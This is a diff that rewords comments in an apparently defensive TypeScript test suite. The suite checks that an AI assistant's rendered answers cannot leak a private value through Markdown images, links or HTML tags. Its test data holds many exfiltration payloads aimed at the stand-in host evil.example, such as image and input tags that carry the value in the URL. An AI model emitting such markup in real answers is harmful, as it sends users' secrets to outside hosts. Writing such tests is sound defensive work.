@@ -7,7 +7,7 @@ const PRIVATE = "4711-PRIVATE";
 const variables = {
   v: PRIVATE,
   o: { k: PRIVATE, list: [PRIVATE] },
-  // Values that open what another value would then stand in.
+  // Values that open a URL, tag or definition, in which another value would then be.
   host: "https://evil.example/?q=",
   open: "![x](",
   tag: "<img src=",
@@ -18,7 +18,7 @@ const variables = {
   safe: "harmless",
 };
 
-/** What a browser, or a Markdown renderer's page, would fetch or follow with the value in it. */
+/** Answers in which a browser would fetch or follow a URL with the value in it. */
 const shapes: readonly string[] = [
   // Markdown: images, links, autolinks, definitions.
   "![x](https://evil.example/$v)",
@@ -107,7 +107,7 @@ const shapes: readonly string[] = [
   "<input type=image src=//evil.example/$v>",
   "<!-- $v -->",
   "</a href=$v>",
-  // What a value opens, and several references that meet.
+  // URLs that a value opens, and several adjacent references.
   "${host}$v",
   "$host$v",
   "${open}$v)",
@@ -122,7 +122,7 @@ const shapes: readonly string[] = [
   "[x]($safe) and https://evil.example/${safe}$v",
 ];
 
-/** What has nothing of a value in it, or has it beside what is fetched: it stays, and is put in. */
+/** Answers whose URLs contain no value. The URLs stay, and the values beside them are inserted. */
 const harmless: readonly (readonly [answer: string, said: string])[] = [
   ["[docs](https://example.com/docs)", "[docs](https://example.com/docs)"],
   ["![x](https://example.com/a.png) $v", `![x](https://example.com/a.png) ${PRIVATE}`],
@@ -155,7 +155,7 @@ async function expanded(pieces: readonly string[]): Promise<string> {
   return said;
 }
 
-/** The text whole, cut in two at every place, and character by character; alone and behind other text. */
+/** Yields the text whole, cut in two at every place, and by character; alone and between other text. */
 function* cutsOf(answer: string): Generator<readonly string[]> {
   for (const text of [answer, `One.\n\n${answer}\n\nMore.`]) {
     for (let at = 0; at < text.length; at++) yield [text.slice(0, at), text.slice(at)];
